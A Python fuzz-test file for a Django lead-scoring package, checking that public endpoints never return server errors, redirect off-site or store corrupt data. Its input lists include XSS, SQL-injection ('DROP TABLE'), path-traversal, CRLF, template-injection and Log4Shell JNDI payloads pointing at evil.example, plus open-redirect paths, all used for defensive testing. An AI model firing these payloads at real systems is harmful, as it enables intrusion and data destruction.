"""Random and malicious input to every public endpoint: never a server error, never an
off-site redirect, nothing stored that should not be. Bodies carry NaN, Infinity and huge
numbers (1e400, 10**400) and dates from year 1 to 9999; every request may carry malformed
headers (Origin, Referer, Cookie, User-Agent, Content-Type, Content-Length,
X-Forwarded-For). Each endpoint runs a small sample in the default suite and 10,000
requests with ``pytest -m slow`` (marked ``slow``); ``-s`` prints how many requests each
sent and how they were answered."""

import json
import re
from collections import Counter
from datetime import UTC, timedelta, timezone
from urllib.parse import quote, urlencode, urlsplit

import pytest
from django.core import signing
from django.core.cache import cache
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wagtail_leadscore.identity import make_identity_token
from wagtail_leadscore.lifecycle.stages import CONTACT_STAGES
from wagtail_leadscore.mail.links import CLICK_SALT, OPEN_SALT, UNSUBSCRIBE_SALT, sign
from wagtail_leadscore.models import ApiKey, Contact, Event, OutboxMessage
from wagtail_leadscore.profiling.documents import DOCUMENT_LINK_SALT
from wagtail_leadscore.sales.dossier import ACCEPT_SALT, SEND_BACK_SALT
from wagtail_leadscore.tracking.health import tracking_failure_count

from .conftest import HUMAN_UA
from .lead_capture import HORACY_QUEUE, ebook, gated_article
from .mail_server import html_part
from .test_beacon import tracker_config
from .test_mail import make_email, send_one
from .test_progressive_forms import checklist_pdf, document_link, send  # noqa: F401
from .test_sales import anna, decision_links, lead  # noqa: F401

pytestmark = pytest.mark.django_db

SIZES = [pytest.param(50, id="sample"), pytest.param(10_000, id="10k", marks=pytest.mark.slow)]

EXTREME_DATES = [
    "0001-01-01T00:00:00+14:00", "0001-01-01", "0001-01-01T00:00:00", "9999-12-31",
    "9999-12-31T23:59:59-12:00", "1969-12-31T23:59:59Z", "1970-01-01T00:00:00+00:00",
    "-0001-01-01", "10000-01-01", "2026-02-30", "-1", "-62135596800", "253402300800",
]
MALICIOUS = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR '1'='1' --",
    "'; DROP TABLE wagtail_leadscore_event; --", "\x00", "a\x00b", "../../etc/passwd",
    "javascript:alert(1)", "//evil.example/", "https://evil.example/", "=HYPERLINK(\"x\")",
    "\r\nSet-Cookie: pwned=1", "%00%0d%0a", "\ud800", "𝕏" * 300, "A" * 20_000, "{{ 7*7 }}",
    "${jndi:ldap://evil.example/a}", "²", "١٢", "-1", "9" * 40, "1e309", "NaN", "Infinity",
    "", *EXTREME_DATES,
]
texts = st.one_of(st.text(max_size=300), st.sampled_from(MALICIOUS))
# What an HTTP client can send as text at all (no lone surrogates); raw bytes cover the rest.
sendable_texts = texts.filter(lambda text: not re.search("[\ud800-\udfff]", text))
OFFSETS = [UTC, timezone(timedelta(hours=14)), timezone(timedelta(hours=-12))]
dates = st.one_of(st.sampled_from(EXTREME_DATES),
                  st.datetimes(timezones=st.sampled_from(OFFSETS)).map(lambda d: d.isoformat()))

# JSON numbers json.dumps cannot write, as placeholders that to_json() writes out raw:
# 1e400 is inf to Python, and 5000 digits exceed its int parsing limit.
RAW_NUMBERS = ["1e400", "-1e400", "1" + "0" * 5000]
numbers = st.one_of(
    st.integers(), st.floats(),  # NaN and ±Infinity included: json.dumps writes them
    st.sampled_from([10**400, -(10**400), 2**63, -(2**63) - 1, 1e308, 5e-324,
                     *(f"@raw:{number}@" for number in RAW_NUMBERS)]))
json_values = st.recursive(
    st.none() | st.booleans() | numbers | texts | dates,
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(texts, children, max_size=4),
    max_leaves=12)


def to_json(value):
    return re.sub(r'"@raw:([^"@]*)@"', r"\1", json.dumps(value)).encode()


# Header values as a WSGI server hands them over: bytes decoded as Latin-1 (so UTF-8 text
# arrives as mojibake), without the CR, LF and NUL that servers refuse.
header_texts = st.text(st.characters(codec="latin-1", exclude_characters="\r\n\x00"),
                       max_size=300)


def wsgi(*values):
    return [value.encode().decode("latin-1") for value in values]


MALFORMED_HEADERS = {
    "HTTP_ORIGIN": st.one_of(header_texts, st.sampled_from(wsgi(
        "http://[::1", "http://[", "http://]x", "http://[evil]/", "null", "http://testserver",
        "http://testserver:x", "https://evil.example", "http://żółw.example", "//", ":"))),
    "HTTP_REFERER": st.one_of(header_texts, st.sampled_from(wsgi(
        "http://[::1", "javascript:alert(1)", "https://evil.example/" + "r" * 5000, "/a?b",
        "http://%zz/", "\\\\evil", "http://testserver/?ls_id=x", "http://żółw.example/"))),
    "HTTP_COOKIE": st.one_of(header_texts, st.sampled_from(wsgi(
        "leadscore_vid=", "leadscore_vid=garbage", 'leadscore_vid="', "=;;=;",
        "leadscore_vid=a; leadscore_vid=b", "leadscore_vid=" + "x" * 5000, "a" * 10_000,
        "leadscore_vid:x=1", "leadscore_consent=\x7f", "leadscore_unlocked=1:2:3",
        "sessionid=x; csrftoken=" + "y" * 100, "żółw=gęś"))),
    "HTTP_USER_AGENT": st.one_of(header_texts, st.sampled_from(wsgi(
        "A" * 20_000, HUMAN_UA + " żółw 𝕏", "", "Googlebot/2.1", "\x7f" * 50))),
    "CONTENT_TYPE": st.one_of(header_texts, st.sampled_from([
        "application/json; charset=utf-16", "application/json; charset=nope",
        "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; "
        "boundary=x", "text/plain", "", "application/x-www-form-urlencoded; charset=bogus",
        "application/json;;;", "application/json; charset="])),
    # Never more than any body sent: the test client cannot send less than it declares.
    "CONTENT_LENGTH": st.sampled_from(["", "abc", "-1", "0", " 0", "٠", "0x10"]),
    # What the client made up, then the address our proxy (CLIENT_IP_HEADER) saw.
    "HTTP_X_FORWARDED_FOR": st.one_of(header_texts, st.sampled_from(wsgi(
        "", "garbage", "1.2.3.4, ", ",,,", "[::1", "::1, [::1]:80", "1.2.3.4" * 1000,
        "żółw, 10.0.0.1", "unknown"))).map(lambda sent: f"{sent}, 198.51.100.9"),
}
# A third of the requests are clean, so the fuzzed bodies get past the header checks.
malformed_headers = st.one_of(
    st.just({}),
    st.one_of(*(values.map(lambda value, name=name: {name: value})
                for name, values in MALFORMED_HEADERS.items())),
    st.fixed_dictionaries({}, optional=MALFORMED_HEADERS))


def fuzz(examples):
    return settings(max_examples=examples, deadline=None, database=None,
                    suppress_health_check=list(HealthCheck))


@pytest.fixture
def no_rate_limits(settings_leadscore):
    cache.clear()
    settings_leadscore(BEACON_RATE_LIMIT=10**9, FORM_RATE_LIMIT=10**9, API_RATE_LIMIT=10**9,
                       MAIL_LINK_RATE_LIMIT=10**9, CLIENT_IP_HEADER="HTTP_X_FORWARDED_FOR")


@pytest.fixture
def visitor_browser():
    return Client(HTTP_USER_AGENT=HUMAN_UA)


@pytest.fixture
def statuses(request):
    """How the test's requests were answered, by status class (printed with ``-s``): all
    below 500, or the test fails on the first (hypothesis then shrinks it)."""
    counts = Counter()
    yield counts
    print(f"\n{request.node.name}: {counts.total()} requests, {counts['5xx']} 5xx,",
          dict(sorted(counts.items())))


def counted(statuses, response):
    """``response``, counted in ``statuses``: never a server error, nor a request whose
    tracking failed (logged and counted, the page served, the event lost)."""
    statuses[f"{response.status_code // 100}xx"] += 1
    assert response.status_code < 500, response.content[:300]
    assert tracking_failure_count() == 0
    return response


BROWSER_STRIPPED = "".join(map(chr, range(0x21)))  # C0 controls and the space


def assert_stays_on_the_site(location):
    """Read as a browser reads a Location: leading spaces and controls, tabs and newlines
    dropped, a backslash taken for a slash."""
    seen = re.sub("[\t\n\r]", "", location).lstrip(BROWSER_STRIPPED).replace("\\", "/")
    parts = urlsplit(seen)
    assert not parts.scheme and not parts.netloc and not seen.startswith("//"), location


def known_types():
    from wagtail_leadscore.events import event_types

    return {event_type.name for event_type in event_types}


def assert_nothing_corrupted(before_contacts):
    assert set(Event.objects.values_list("type", flat=True)) <= known_types()
    assert not any("\x00" in path for path in Event.objects.values_list("path", flat=True))
    for contact in Contact.objects.all():
        contact.full_clean(validate_unique=False)  # every stored contact is still valid
    assert Contact.objects.filter(pk__in=before_contacts).count() == len(before_contacts)


BEACON_FIELDS = ("type", "id", "view", "name", "path", "query", "referrer", "properties")


def beacon_bodies(path, view_token):
    """Any bytes, any JSON, and beacons as tracker.js sends them from the page at ``path``
    with fuzzed values."""
    payloads = st.one_of(
        json_values,
        st.fixed_dictionaries({}, optional=dict.fromkeys(BEACON_FIELDS, json_values)),
        st.fixed_dictionaries(
            {"type": st.sampled_from(["page_view", "custom", "engagement"]),
             "id": st.from_regex(r"\A[A-Za-z0-9_:.-]{8,64}\Z"), "path": st.just(path)},
            optional={"name": texts, "query": texts, "referrer": texts,
                      "view": st.sampled_from(["", view_token]) | texts,
                      "properties": st.dictionaries(texts, json_values, max_size=5)}),
    )
    return st.one_of(payloads.map(to_json), st.binary(max_size=2000))


@pytest.mark.parametrize("examples", SIZES)
def test_the_beacon_never_fails(examples, no_rate_limits, visitor_browser, demo_pages,
                                statuses):
    path = demo_pages[0].url  # a visitor with a cookie and the page's view token, as tracker.js
    view_token = tracker_config(visitor_browser.get(path))["view"]
    before = list(Contact.objects.values_list("pk", flat=True))

    @fuzz(examples)
    @given(body=beacon_bodies(path, view_token), content_type=st.sampled_from(
        ["application/json"] * 4 + ["text/plain", "application/x-www-form-urlencoded"]),
        headers=malformed_headers)
    def send_beacon(body, content_type, headers):
        counted(statuses, visitor_browser.post("/leadscore/beacon/", body,
                                               content_type=content_type, **headers))

    send_beacon()
    assert_nothing_corrupted(before)


FORM_FIELDS = ("email", "first_name", "company", "company_size", "phone", "leadscore_hp",
               "leadscore_token", "leadscore_form", "next")


@pytest.mark.parametrize("examples", SIZES)
def test_progressive_forms_never_fail(examples, no_rate_limits, visitor_browser, later,
                                      statuses):
    page = ebook("fuzz", 2, HORACY_QUEUE)
    form = visitor_browser.get(page.url).content.decode()
    token = re.search(r'name="leadscore_token" value="([^"]*)"', form).group(1)
    block = re.search(r'name="leadscore_form" value="([^"]*)"', form).group(1)
    later()  # sent by a person, not at once: the fields are validated, not refused as a bot's
    before = list(Contact.objects.values_list("pk", flat=True))

    @fuzz(examples)
    @given(fields=st.fixed_dictionaries({}, optional={
        field: st.one_of(sendable_texts, dates, st.lists(sendable_texts, max_size=3))
        for field in FORM_FIELDS}), real_token=st.booleans(), raw=st.none() | st.binary(),
        headers=malformed_headers)
    def send_form(fields, real_token, raw, headers):
        if raw is not None:  # any bytes, invalid UTF-8 and percent escapes included
            counted(statuses, visitor_browser.post(
                page.url, raw, content_type="application/x-www-form-urlencoded", **headers))
            return
        data = {**({"leadscore_token": token, "leadscore_form": block} if real_token else {}),
                **fields}
        response = counted(statuses, visitor_browser.post(page.url, data, **headers))
        if response.status_code in (301, 302, 303):
            assert_stays_on_the_site(response["Location"])

    send_form()
    assert_nothing_corrupted(before)


@pytest.mark.parametrize("examples", SIZES)
@pytest.mark.parametrize("endpoint", ["contacts", "events", "stages"])
def test_the_api_never_fails(examples, endpoint, no_rate_limits, client, statuses):
    raw_key = (key := ApiKey(name="Fuzz")).set_new_key()
    key.save()
    fields = ("email", "first_name", "company", "phone", "facts", "type", "name",
              "occurred_at", "path", "properties", "id", "stage", "reason")
    records = st.one_of(
        st.fixed_dictionaries({}, optional=dict.fromkeys(fields, json_values)),
        st.fixed_dictionaries(  # valid but for the values: extreme ones get stored, or not
            {"email": st.sampled_from(["ola@example.com", "ewa@example.com"]),
             **({"type": st.sampled_from(["offline", "purchase", "custom"])}
                if endpoint == "events" else {}),
             **({"stage": st.sampled_from([stage for stage, _ in CONTACT_STAGES])}
                if endpoint == "stages" else {})},
            optional={"occurred_at": dates, "properties": st.dictionaries(texts, json_values),
                      "facts": st.dictionaries(texts, json_values), "phone": numbers,
                      "company": numbers | texts, "name": texts}))
    before = list(Contact.objects.values_list("pk", flat=True))
    Contact.objects.create(email="ola@example.com")  # the stages endpoint knows her

    @fuzz(examples)
    @given(payload=st.one_of(json_values, records, st.lists(records, max_size=5)),
           authorization=st.sampled_from(
               [f"Bearer {raw_key}"] * 3 + ["Bearer wrong", "", "Basic x"]),
           headers=malformed_headers)
    def send_record(payload, authorization, headers):
        counted(statuses, client.post(f"/leadscore/api/{endpoint}/", to_json(payload),
                                      content_type="application/json",
                                      HTTP_AUTHORIZATION=authorization, **headers))

    send_record()
    assert_nothing_corrupted(before)


@pytest.mark.parametrize("examples", SIZES)
@pytest.mark.parametrize("kind, salt", [("c", CLICK_SALT), ("o", OPEN_SALT),
                                        ("u", UNSUBSCRIBE_SALT)],
                         ids=["click", "open", "unsubscribe"])
def test_email_links_never_fail_nor_lead_off_the_stored_links(
        examples, kind, salt, no_rate_limits, mail_server, client, statuses):
    ola = Contact.objects.create(email="ola@example.com", first_name="Ola")
    send_one(ola, make_email())
    message = OutboxMessage.objects.get()
    destinations = {link if isinstance(link, str) else link.get("url")
                    for link in message.links}
    sent_tokens = re.findall(rf"/leadscore/m/{kind}/([^/\"]+)/",
                             html_part(mail_server.inbox.messages[0]))
    token_parts = st.lists(st.one_of(st.integers(-5, 10**12), sendable_texts,
                                     st.just(message.pk)),
                           min_size=1, max_size=3)

    @fuzz(examples)
    @given(method=st.sampled_from(["get", "head", "post"]),
           token=st.one_of(st.sampled_from(sent_tokens),
                           sendable_texts.filter(lambda text: "/" not in text and text),
                           token_parts),
           data=st.dictionaries(sendable_texts, sendable_texts, max_size=3),
           headers=malformed_headers)
    def send_link(method, token, data, headers):
        if isinstance(token, list):
            token = sign(salt, *token)
        url = f"/leadscore/m/{kind}/{quote(token, safe='')}/"
        post_data = {"data": data} if method == "post" else {}
        response = counted(statuses, getattr(client, method)(url, **post_data, **headers))
        if response.status_code in (301, 302, 303, 307):  # off the site: only where it led
            location = response["Location"]
            assert not urlsplit(location).netloc or location in destinations, location

    send_link()


@pytest.mark.parametrize("examples", SIZES)
def test_not_you_never_redirects_off_site(examples, no_rate_limits, visitor_browser, statuses):
    @fuzz(examples)
    @given(target=sendable_texts, headers=malformed_headers)
    def send_not_you(target, headers):
        response = counted(statuses, visitor_browser.post("/leadscore/not-you/",
                                                          {"next": target}, **headers))
        if response.status_code in (301, 302, 303):
            location = urlsplit(response["Location"])
            assert not location.netloc and not location.scheme, response["Location"]

    send_not_you()


@pytest.mark.parametrize("examples", SIZES)
def test_gated_document_links_never_fail(examples, no_rate_limits, visitor_browser,
                                         checklist_pdf, later, statuses):  # noqa: F811
    guide = gated_article("fuzz-pdf", "gated", extra=[("document", {
        "document": checklist_pdf, "link_text": "Download the checklist"})])
    send(visitor_browser, guide, later, email="ewa@example.com", company="Ewa Homes")
    link = document_link(visitor_browser.get(guide.url).content.decode())
    claims = st.fixed_dictionaries({}, optional={
        "d": st.one_of(st.just(checklist_pdf.pk), st.integers(-5, 10**12)),
        "p": st.one_of(st.just(guide.pk), st.integers(-5, 10**12)), "f": sendable_texts})
    tokens = st.one_of(
        st.just(link.split("/")[-2]),
        claims.map(lambda value: signing.dumps(value, salt=DOCUMENT_LINK_SALT, compress=True)),
        sendable_texts.filter(lambda text: "/" not in text and text))

    @fuzz(examples)
    @given(method=st.sampled_from(["get", "head", "post"]), token=tokens,
           headers=malformed_headers)
    def send_link(method, token, headers):
        url = f"/leadscore/documents/{quote(token, safe='')}/"
        counted(statuses, getattr(visitor_browser, method)(url, **headers))

    send_link()
    # Downloads by her, or by her browser after a broken cookie made it a new visitor.
    downloads = Event.objects.filter(type="download")
    assert set(downloads.values_list("contact__email", flat=True)) <= {"ewa@example.com", None}


@pytest.mark.parametrize("examples", SIZES)
@pytest.mark.parametrize("page, salt", [("accept", ACCEPT_SALT), ("back", SEND_BACK_SALT)],
                         ids=["accept", "send_back"])
def test_sales_decision_pages_never_fail(examples, page, salt, no_rate_limits, client,
                                         lead, statuses):  # noqa: F811
    contact, alert = lead
    accept, back = decision_links(alert)
    link = accept if page == "accept" else back
    message = OutboxMessage.objects.get(source="lead_alert")
    tokens = st.one_of(
        st.just(link.rstrip("/").rsplit("/", 1)[1]),
        st.lists(st.one_of(st.integers(-5, 10**12), sendable_texts, st.just(message.pk)),
                 min_size=1, max_size=3).map(lambda parts: sign(salt, *parts)),
        sendable_texts.filter(lambda text: "/" not in text and text))

    @fuzz(examples)
    @given(method=st.sampled_from(["get", "head", "post"]), token=tokens,
           data=st.fixed_dictionaries({}, optional={
               "reason": sendable_texts, "enrol": sendable_texts,
               "csrfmiddlewaretoken": sendable_texts}),
           headers=malformed_headers)
    def send_decision(method, token, data, headers):
        url = f"/leadscore/sales/{page}/{quote(token, safe='')}/"
        post_data = {"data": data} if method == "post" else {}
        counted(statuses, getattr(client, method)(url, **post_data, **headers))

    send_decision()


def wsgi_path(text):
    """A request path as the server decoded it (percent escapes undone, bytes as Latin-1)."""
    return ("/" + text).encode().decode("latin-1")


@pytest.mark.parametrize("examples", SIZES)
def test_pages_and_identity_links_never_fail_nor_redirect_off_site(
        examples, no_rate_limits, visitor_browser, demo_pages, statuses):
    """Any path, with or without an ``?ls_id=`` email-link token (valid or not): the
    token's redirect drops it and stays on this site."""
    token = make_identity_token(Contact.objects.create(email="ola@example.com"))
    paths = st.one_of(
        st.sampled_from([page.url for page in demo_pages]),
        st.sampled_from(["//evil.example/", "///evil.example", "/\\evil.example/",
                         "/\t/evil.example/", "//127.0.0.1@evil.example/",
                         "//\u3002evil.example/"]).map(lambda path: wsgi_path(path[1:])),
        sendable_texts.map(wsgi_path))
    queries = st.lists(st.tuples(st.sampled_from(["ls_id", "utm_source", "q"]) | sendable_texts,
                                 st.one_of(st.just(token), sendable_texts)),
                       max_size=3).map(urlencode)

    @fuzz(examples)
    @given(method=st.sampled_from(["get", "head"]), path=paths, query=queries,
           headers=malformed_headers)
    def send_request(method, path, query, headers):
        response = counted(statuses, getattr(visitor_browser, method)(
            "/", PATH_INFO=path, QUERY_STRING=query, **headers))
        if response.status_code in (301, 302, 303, 307, 308):
            assert_stays_on_the_site(response["Location"])

    send_request()
